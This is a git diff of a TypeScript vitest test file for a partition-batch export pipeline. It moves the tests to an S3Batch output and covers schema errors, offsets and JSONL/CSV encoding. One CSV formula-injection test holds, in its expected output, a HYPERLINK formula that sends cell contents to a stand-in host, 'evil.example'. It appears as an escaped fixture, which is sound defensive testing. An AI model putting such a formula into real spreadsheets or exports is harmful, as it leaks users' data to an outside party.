@@ -1,10 +1,10 @@
 import { describe, expect, it } from 'vitest';
-import { LakeValueError } from '../../processors/core/parquet/columns.js';
-import { parsePathTemplate, TemplateValueError } from '../../processors/core/pipeline/path-template.js';
-import { PartitionBatch, type OutputSettings } from '../../processors/export/partition-batch.js';
+import { parsePathTemplate } from '../../processors/core/pipeline/path-template.js';
+import { PartitionBatch } from '../../processors/export/partition-batch.js';
+import { S3Batch, type FileSettings } from '../../processors/export/outputs/s3-batch.js';
 import { shapeSource } from '../../processors/export/shape.js';
 import { DedupeCache, dropFields, selectFields, StepChain } from '../../processors/export/steps.js';
-import type { S3OutputConfig } from '../../processors/core/pipeline/components/s3-output.js';
+import type { S3OutputConfig } from '../../processors/export/outputs/s3.js';
 
 const columns = [
   { name: 'event_id', type: 'string', nullable: false },
@@ -13,7 +13,7 @@ const columns = [
   { name: 'occurred_at', type: 'timestamp_us', nullable: false },
 ] as const;
 
-function settings(format: OutputSettings['format'] = 'parquet'): OutputSettings {
+function settings(format: FileSettings['format'] = 'parquet'): FileSettings {
   return {
     path: parsePathTemplate('lake/event_type=${data.event_type}/dt=${time:yyyy-MM-dd}/${topic}+${partition}+${first_offset}.parquet').template,
     format,
@@ -24,17 +24,21 @@ function settings(format: OutputSettings['format'] = 'parquet'): OutputSettings 
   };
 }
 
-const shape = shapeSource({ columns } as unknown as S3OutputConfig, 'avro_registry', 'test.yaml').shapeFor(undefined, undefined);
+const shapes = shapeSource({ columns } as unknown as S3OutputConfig, 'avro_registry', 'test.yaml');
 const day1 = Date.UTC(2026, 9, 1, 12) * 1000;
 const day2 = Date.UTC(2026, 9, 2, 0, 0, 0) * 1000; // midnight belongs to its own day
 
-function batch(format?: OutputSettings['format']): PartitionBatch {
-  return new PartitionBatch('events', 3, new StepChain([]).forPartition(), settings(format));
+function batch(format?: FileSettings['format']): PartitionBatch & { output: S3Batch } {
+  return new PartitionBatch('events', 3, new StepChain([]).forPartition(), new S3Batch('events', 3, settings(format), shapes)) as PartitionBatch & { output: S3Batch };
+}
+
+function place(b: PartitionBatch, offset: number, value: Record<string, unknown>) {
+  return b.output.add({ value, topic: 'events', partition: 3, offset: String(offset), message: { key: null, value: null, headers: {}, offset: String(offset), timestamp: '0' } });
 }
 
 function add(b: PartitionBatch, offset: number, record: Record<string, unknown>): void {
   b.consumedMessage(String(offset), 100, 0);
-  b.add(record, shape, String(offset));
+  expect(place(b, offset, record)).toBeUndefined();
 }
 
 describe('partition batch', () => {
@@ -47,7 +51,7 @@ describe('partition batch', () => {
     expect(b.records).toBe(4);
     expect(b.nextOffset).toBe(14n);
     expect(b.startOffset).toBe('10');
-    const files = b.seal();
+    const files = b.output.seal();
     expect(files.map((f) => [f.key, f.rows, f.firstOffset, f.lastOffset]).sort()).toEqual([
       ['lake/event_type=deposit_made/dt=2026-10-01/events+3+10.parquet', 2, '10', '13'],
       ['lake/event_type=deposit_made/dt=2026-10-02/events+3+12.parquet', 1, '12', '12'],
@@ -61,12 +65,12 @@ describe('partition batch', () => {
     const b = batch();
     add(b, 1, { event_id: 'a', event_type: 'deposit_made', amount_minor: 1, occurred_at: day1 });
     b.consumedMessage('2', 10, 0);
-    expect(() => b.add({ event_id: 'b', event_type: 'deposit_made', amount_minor: 'ten', occurred_at: day1 }, shape, '2')).toThrow(LakeValueError);
-    expect(() => b.add({ event_id: null, event_type: 'x', occurred_at: day1 }, shape, '2')).toThrow(/event_id: required column/);
-    expect(() => b.add({ event_id: 'c', event_type: { nested: true }, occurred_at: day1 }, shape, '2')).toThrow(TemplateValueError);
-    expect(() => b.add({ event_id: 'c', event_type: 'x', occurred_at: 'yesterday' }, shape, '2')).toThrow(TemplateValueError);
+    expect(place(b, 2, { event_id: 'b', event_type: 'deposit_made', amount_minor: 'ten', occurred_at: day1 })).toMatchObject({ reason: 'schema_mismatch' });
+    expect(place(b, 2, { event_id: null, event_type: 'x', occurred_at: day1 })).toMatchObject({ reason: 'schema_mismatch', error: expect.stringMatching(/event_id: required column/) });
+    expect(place(b, 2, { event_id: 'c', event_type: { nested: true }, occurred_at: day1 })).toMatchObject({ reason: 'path_error' });
+    expect(place(b, 2, { event_id: 'c', event_type: 'x', occurred_at: 'yesterday' })).toMatchObject({ reason: 'path_error' });
     expect(b.records).toBe(1);
-    expect(b.fileCount).toBe(1);
+    expect(b.output.fileCount).toBe(1);
     expect(b.nextOffset).toBe(3n);
   });
 
@@ -84,7 +88,7 @@ describe('partition batch', () => {
       const b = batch(format);
       add(b, 1, { event_id: 'a,"b"', event_type: 't', amount_minor: 2n ** 53n + 1n, occurred_at: day1 + 7 });
       add(b, 2, { event_id: 'c', event_type: 't', amount_minor: null, occurred_at: day1 });
-      const text = Buffer.from(await b.seal()[0]!.encode()).toString('utf8');
+      const text = Buffer.from(await b.output.seal()[0]!.encode()).toString('utf8');
       if (format === 'jsonl') {
         expect(text).toBe(
           '{"event_id":"a,\\"b\\"","event_type":"t","amount_minor":9007199254740993,"occurred_at":"2026-10-01T12:00:00.000007Z"}\n' +
@@ -106,7 +110,7 @@ describe('CSV export files against formula injection', () => {
     add(b, 4, { event_id: '-x', event_type: 't', amount_minor: null, occurred_at: day1 });
     add(b, 5, { event_id: '\tlead', event_type: 't', amount_minor: null, occurred_at: day1 });
     add(b, 6, { event_id: 'plain-text', event_type: 't', amount_minor: -2n, occurred_at: day1 });
-    const text = Buffer.from(await b.seal()[0]!.encode()).toString('utf8');
+    const text = Buffer.from(await b.output.seal()[0]!.encode()).toString('utf8');
     expect(text.split('\n')).toEqual([
       'event_id,event_type,amount_minor,occurred_at',
       `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",t,-1500,2026-10-01T12:00:00.000000Z`,
